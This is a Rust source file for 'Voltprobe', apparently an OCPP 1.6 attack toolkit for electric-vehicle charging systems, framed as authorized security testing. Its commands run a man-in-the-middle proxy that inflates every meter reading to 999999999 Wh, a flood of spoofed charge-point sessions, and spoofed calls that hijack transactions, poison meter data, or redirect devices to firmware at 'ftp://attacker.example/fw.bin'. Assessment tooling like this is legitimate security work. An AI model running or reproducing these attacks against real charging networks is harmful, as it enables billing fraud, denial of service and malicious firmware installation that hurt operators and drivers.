//! Voltprobe - OCPP security assessment CLI
//!
//! Run authorized security exercises against OCPP 1.6 charging
//! infrastructure.
//!
//! # Usage
//!
//! ```bash
//! # Interception proxy between charge points and their CSMS
//! voltprobe mitm --listen 127.0.0.1:9001 --csms-url ws://localhost:9000
//!
//! # Session flood: 50 spoofed charge points held open for a minute
//! voltprobe flood --csms-url ws://localhost:9000 --count 50 --window-secs 60
//!
//! # One-shot spoofed call
//! voltprobe spoof --csms-url ws://localhost:9000 --identity CP_1 --scenario hijack
//! ```

use std::sync::Arc;
use std::time::Duration;

use clap::{Parser, Subcommand, ValueEnum};
use tokio::net::TcpListener;
use tracing::{info, Level};
use tracing_subscriber::FmtSubscriber;

use voltprobe_attack::{
    flood::{flood, FloodConfig},
    relay::serve,
    spoof,
    transform::MeterInflator,
};
use voltprobe_ocpp::{connect, MessageStream};

/// OCPP security assessment toolkit
#[derive(Parser, Debug)]
#[command(author, version, about, long_about = None)]
struct Args {
    /// Log level (trace, debug, info, warn, error)
    #[arg(short, long, default_value = "info", global = true)]
    log_level: String,

    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand, Debug)]
enum Command {
    /// Relay charge point traffic to the real CSMS, inflating meter readings
    Mitm {
        /// Address to accept charge points on
        #[arg(long, default_value = "127.0.0.1:9001")]
        listen: String,

        /// Upstream CSMS WebSocket URL
        #[arg(long, default_value = "ws://localhost:9000")]
        csms_url: String,

        /// Value every forwarded meter reading is rewritten to, in Wh
        #[arg(long, default_value = "999999999")]
        inflate_wh: i64,
    },

    /// Open many spoofed charge point sessions and hold them with heartbeats
    Flood {
        /// CSMS WebSocket URL
        #[arg(long, default_value = "ws://localhost:9000")]
        csms_url: String,

        /// Number of sessions to open
        #[arg(long, default_value = "50")]
        count: usize,

        /// Connection attempts per second (0 = unthrottled)
        #[arg(long, default_value = "20")]
        rate: u32,

        /// How long to hold the sessions, in seconds
        #[arg(long, default_value = "60")]
        window_secs: u64,

        /// Seconds between heartbeat rounds
        #[arg(long, default_value = "5")]
        interval_secs: u64,
    },

    /// Fire a single hand-built call and print whatever comes back
    Spoof {
        /// CSMS WebSocket URL
        #[arg(long, default_value = "ws://localhost:9000")]
        csms_url: String,

        /// Charge point identity to connect as
        #[arg(long, default_value = "CP_1")]
        identity: String,

        #[arg(long, value_enum, default_value = "hijack")]
        scenario: Scenario,
    },
}

#[derive(ValueEnum, Clone, Copy, Debug)]
enum Scenario {
    /// Boot as a plausible-looking device
    Boot,
    /// Stop a transaction we never started
    Hijack,
    /// Meter readings for a transaction nobody opened
    PoisonedMeter,
    /// Point the device at attacker-hosted firmware
    Firmware,
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args = Args::parse();

    let level = match args.log_level.as_str() {
        "trace" => Level::TRACE,
        "debug" => Level::DEBUG,
        "info" => Level::INFO,
        "warn" => Level::WARN,
        "error" => Level::ERROR,
        _ => Level::INFO,
    };

    let subscriber = FmtSubscriber::builder()
        .with_max_level(level)
        .with_target(false)
        .with_thread_ids(false)
        .finish();
    tracing::subscriber::set_global_default(subscriber)?;

    match args.command {
        Command::Mitm {
            listen,
            csms_url,
            inflate_wh,
        } => {
            info!(%listen, %csms_url, inflate_wh, "starting interception proxy");
            let listener = TcpListener::bind(&listen).await?;
            let transform = Arc::new(MeterInflator {
                inflated_wh: inflate_wh,
            });
            serve(listener, csms_url, transform).await?;
        }

        Command::Flood {
            csms_url,
            count,
            rate,
            window_secs,
            interval_secs,
        } => {
            let config = FloodConfig {
                count,
                rate_per_second: rate,
                keepalive_window: Duration::from_secs(window_secs),
                keepalive_interval: Duration::from_secs(interval_secs),
                ..FloodConfig::default()
            };

            let report = flood(&config, |identity: String| {
                let csms_url = csms_url.clone();
                async move { connect(&csms_url, &identity).await }
            })
            .await;

            println!(
                "flood: attempted {}, opened {}, peak {}, survivors {}, keepalives {}",
                report.attempted,
                report.opened,
                report.peak_live,
                report.survivors,
                report.keepalives
            );
        }

        Command::Spoof {
            csms_url,
            identity,
            scenario,
        } => {
            let call = match scenario {
                Scenario::Boot => spoof::impersonation_boot("GreenCharge", "Falcon")?,
                Scenario::Hijack => spoof::transaction_hijack()?,
                Scenario::PoisonedMeter => spoof::poisoned_meter_values()?,
                Scenario::Firmware => {
                    spoof::firmware_redirect("ftp://attacker.example/fw.bin")?
                }
            };
            info!(%identity, action = %call.action, "firing spoofed call");

            let mut stream = connect(&csms_url, &identity).await?;
            match spoof::fire(&mut stream, call, Duration::from_secs(5)).await? {
                Some(reply) => println!("reply: {}", String::from_utf8_lossy(&reply.to_bytes()?)),
                None => println!("no reply within 5s"),
            }
            stream.close().await;
        }
    }

    Ok(())
}
